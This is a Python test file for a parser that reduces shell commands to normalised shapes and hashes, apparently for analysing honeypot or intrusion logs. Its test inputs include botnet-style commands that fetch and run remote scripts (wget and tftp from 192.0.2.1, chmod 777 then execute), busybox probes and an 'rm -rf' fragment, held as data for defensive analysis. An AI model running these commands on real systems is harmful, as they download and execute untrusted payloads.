"""Shapes of commands: what is the same, what is not, and that hostile text costs no more."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nacre.parse.shape import COMMAND_CHARS_MAX, command_shape, shape_hash


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("uname -a", "uname -a"),
        ("  uname\t -a\n", "uname -a"),
        ("cat /proc/cpuinfo | grep name | wc -l", "cat /proc/cpuinfo | grep name | wc -l"),
        ("wget http://192.0.2.1/x.sh; sh x.sh", "wget <url>; sh x.sh"),
        ('wget "http://192.0.2.1/x.sh"', "wget <text>"),
        ("tftp -g 192.0.2.1 -r mips64", "tftp -g <ip> -r mips64"),
        ("ping6 2001:db8::1", "ping6 <ip>"),
        ("chmod 777 /tmp/nKqz; /tmp/nKqz", "chmod <n> /tmp/<name>; /tmp/<name>"),
        ("cat /root/.var03522123", "cat /root/<name>"),
        ("/bin/busybox WSKMZ", "/bin/busybox <name>"),
        ("/bin/busybox cat", "/bin/busybox cat"),
        (r"echo -ne '\x7f\x45' > a", "echo -ne <text> > a"),
        (r"echo -ne \x7f\x45\x4c", "echo -ne <bytes>"),
        ("echo deadbeef cafe0123", "echo deadbeef <hex>"),
        ("echo c3NoLXJzYSBBQUFBQjNO= | base64 -d", "echo <base64> | base64 -d"),
        ("ls /usr/local/share/Documents", "ls /usr/local/share/Documents"),
        ("echo 'never closed; rm -rf", "echo <text>"),
        ("", ""),
    ],
)
def test_the_shape_of_a_command(command: str, expected: str) -> None:
    """What changes from run to run is replaced by its kind; the rest stays."""
    assert command_shape(command) == expected


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("cd /tmp; wget http://192.0.2.1/a; sh a", "cd /tmp;  wget http://192.0.2.9/b/c.sh; sh a", True),
        ("echo 1234", "echo 98765", True),
        ("uname -a", "uname -r", False),
        ("cat x", "cat x; cat x", False),
    ],
)
def test_equal_shapes_have_equal_numbers(one: str, other: str, same: bool) -> None:
    """Commands have one number exactly when they have one shape."""
    assert (shape_hash(one) == shape_hash(other)) is same


@settings(deadline=None)
@given(command=st.text(alphabet="aA1/.:\"'\\x+=-%;| \n\ud800\x00ü", max_size=1200))
def test_a_number_fits_every_store(command: str) -> None:
    """Any text has a number in [0, 2**63), and always the same one."""
    number = shape_hash(command)

    assert (0 <= number < 2**63, shape_hash(command)) == (True, number)


def test_only_the_head_of_a_long_command_counts() -> None:
    """What comes after the limit changes nothing."""
    head = "echo a;" * COMMAND_CHARS_MAX

    assert shape_hash(head) == shape_hash(head[:COMMAND_CHARS_MAX] + "something else")


def test_a_shape_has_no_more_text_than_its_command() -> None:
    """Placeholders do not let hostile text grow without bound."""
    assert len(command_shape("1 " * 1_000_000)) <= 2 * COMMAND_CHARS_MAX
